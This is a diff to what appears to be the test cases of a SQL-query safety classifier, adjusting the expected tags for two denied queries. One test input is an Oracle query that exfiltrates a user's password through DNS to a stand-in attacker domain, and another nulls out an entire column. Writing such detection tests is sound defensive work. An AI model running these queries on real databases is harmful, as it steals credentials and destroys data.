@@ -742,7 +742,7 @@ FINDINGS = [
     case(
         "postgres",
         "ALTER TABLE orders ALTER COLUMN total TYPE numeric USING NULL",
-        "schema_change delete",
+        "schema_change delete mass_mutation",
         "deny",
         id="F20a",
     ),
@@ -779,7 +779,7 @@ FINDINGS = [
         "oracle",
         "SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM users WHERE ROWNUM "
         "= 1) || '.evil.example') FROM dual",
-        "read export",
+        "read export privilege",
         "deny",
         id="F21a",
     ),
